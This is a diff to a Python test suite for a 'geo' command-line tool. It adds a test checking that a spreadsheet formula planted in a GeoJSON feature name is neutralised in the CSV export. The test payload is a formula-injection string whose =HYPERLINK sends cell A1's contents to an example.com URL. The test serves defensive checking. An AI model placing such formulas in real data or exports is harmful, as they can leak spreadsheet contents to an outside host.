@@ -4,6 +4,8 @@ traceback. Each test runs ``python -m geo`` as a user would."""
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import os
 import sys
@@ -210,3 +212,24 @@ def test_review_refuses_a_pipe_in_the_inbox_by_name(tmp_path, data_copy):
     one_line_error(
         r, f"{review}: is a named pipe (FIFO), not a regular file; only regular files are read"
     )
+
+
+# --- exports that open cleanly ---------------------------------------------------------------
+
+
+def test_a_formula_in_a_feature_name_reaches_the_csv_neutralised(data_copy, tmp_path):
+    formula = '=HYPERLINK("http://example.com/?x="&A1,"Kashgar")'
+    path = data_copy / "corridors.geojson"
+    doc = json.loads(path.read_text(encoding="utf-8"))
+    kashgar = next(f for f in doc["features"] if f["properties"]["id"] == "kashgar")
+    kashgar["properties"]["name"] = formula
+    path.write_text(json.dumps(doc, ensure_ascii=False), encoding="utf-8")
+    target = tmp_path / "features.csv"
+    r = run_cli("export", "--format", "csv", "--data-dir", str(data_copy), "-o", str(target))
+    assert r.returncode == 0, r.stderr
+    raw = target.read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw
+    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(raw.decode("utf-8-sig")))}
+    assert rows["kashgar"]["name"] == "'" + formula
+    sidecar = json.loads((tmp_path / "features.csv-metadata.json").read_text(encoding="utf-8"))
+    assert sidecar["url"] == "features.csv" and sidecar["metadata"]["filters"] == {}
